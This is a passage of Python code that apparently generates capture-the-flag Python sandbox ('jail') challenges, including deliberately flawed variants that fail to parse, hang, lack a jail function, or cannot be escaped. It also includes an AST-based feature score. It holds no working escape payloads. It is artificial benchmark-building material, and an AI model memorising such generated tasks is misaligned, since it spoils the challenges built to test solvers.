    if any(isinstance(n, ast.Compare) and any(isinstance(c, ast.Call) and isinstance(c.func, ast.Name)
                                             and c.func.id == "len" for c in [n.left, *n.comparators])
           for n in nodes):
        score += 0.1
    if "walk" in attrs or "NodeVisitor" in attrs or "parse" in attrs:
        score += 0.2
    if any(isinstance(n, ast.Dict) and any(isinstance(k, ast.Constant) and k.value == "__builtins__"
                                           for k in n.keys) for n in nodes):
        score += 0.2
    if {"replace", "sub"} & attrs:
        score += 0.1
    if "redirect_stdout" in attrs or "redirect_stdout" in names:
        score += 0.1
    if "redirect_stderr" in attrs or "redirect_stderr" in names:
        score += 0.15
    if "BaseException" in names:
        score += 0.05
    if {"isascii", "normalize"} & attrs:
        score += 0.1
    return float(min(1.0, max(0.0, score)))


# ---------------------------------------------------------------------------
# Flawed jails
# ---------------------------------------------------------------------------

def flawed_jail(flaw: str, kind: str, strength: float, rng: np.random.Generator) -> str:
    """A jail of ``kind`` that is wrong in the way ``flaw`` names (see :data:`FLAWS`).

    ``syntax``: does not parse. ``no_jail``: parses but defines no top-level ``jail``.
    ``unbreakable``: no input reaches the flag (the input is only ever echoed, evaluated as a
    literal, or evaluated as arithmetic over digits). ``hangs``: loops forever on every input.
    """
    if flaw not in FLAWS:
        raise ValueError(f"unknown flaw {flaw!r}; known: {FLAWS}")
    if kind not in KINDS:
        raise ValueError(f"unknown jail kind {kind!r}; known: {KINDS}")
    rules = _rules_for(kind, _level_of(strength), strength, rng)
    writer = _Writer(kind, rules, rng)
    if flaw == "hangs":
        # a clean-up loop whose counter is never advanced
        counter = writer.pick(("tries", "rounds", "attempt_no", "i"))
        old, new = writer.pick((("__", "_"), ("  ", " "), ("\t", " ")))
        loop = [f"{counter} = 0",
                f"while {counter} < {int(rng.integers(2, 6))}:",
                f"    user_input = user_input.replace({old!r}, {new!r})"]
        return writer.source(body_prefix=loop)
    if flaw == "unbreakable":
        return _unbreakable(writer)
    source = writer.source()
    if flaw == "no_jail":
        other = writer.pick(("run", "sandbox", "challenge", "check", "jail_input", "evaluate"))
        if rng.random() < 0.5:
            return source.replace("def jail(user_input", f"def {other}(user_input")
        lines = source.split("\n")
        start = lines.index(next(l for l in lines if l.startswith("def jail(")))
        body = lines[start:]
        return "\n".join(lines[:start] + [f"class {other.title().replace('_', '')}:"]
                         + ["    " + l if l else l for l in body])
    # syntax
    lines = source.split("\n")
    options = []
    for i, line in enumerate(lines):
        if line.startswith("def jail(") and line.endswith(":"):
            options.append((i, line[:-1]))
        if line.strip().startswith("return ") and line.rstrip().endswith(")"):
            options.append((i, line.rstrip()[:-1]))
        if line.strip().startswith(("for ", "if ")) and line.endswith(":"):
            options.append((i, line[:-1]))
    i, broken = options[int(rng.integers(len(options)))]
    lines[i] = broken
    out = "\n".join(lines)
    try:
        ast.parse(out)
    except SyntaxError:
        return out
    lines[options[0][0]] = options[0][1]  # pragma: no cover - the def line always breaks it
    return "\n".join(lines)


def _unbreakable(writer: _Writer) -> str:
    """A jail with the kind's checks whose evaluation can never reach anything useful."""
    code = writer.names["code"]
    style = writer.pick(("calculator", "literal", "echo"))
    imports = {"import re"} if style == "calculator" else set()
    if style == "literal" or writer.rules.has_ast:
        imports.add("import ast")
    consts = writer.constants()
    if style == "calculator":
        consts.append('ARITHMETIC = re.compile(r"[0-9+*/%() .-]*")')
    body = [f"{code} = user_input[:{writer.names['len']}]" if writer.rules.truncate
            else f"{code} = user_input"]
    body += writer.checks_inline(code)
    if style == "calculator":
        body += [f"if not ARITHMETIC.fullmatch({code}):",
                 "    return 'digits and operators only'",
                 f"return str(eval({code}, {{\"__builtins__\": {{}}}}, {{}}))"]
    elif style == "literal":
        body += ["try:",
                 f"    return repr(ast.literal_eval({code}))",
                 "except (ValueError, SyntaxError, TypeError, MemoryError, RecursionError):",
                 "    return 'only literals'"]
    else:
        body += [f"return 'You said: ' + {code}"]
    lines = writer.docstring(state_rules=False)
    if imports:
        lines += [""] + sorted(imports)
    if consts:
        lines += [""] + consts
    lines += ["", "", "def jail(user_input: str) -> str:"] + _indent(body)
    return "\n".join(lines) + "\n"
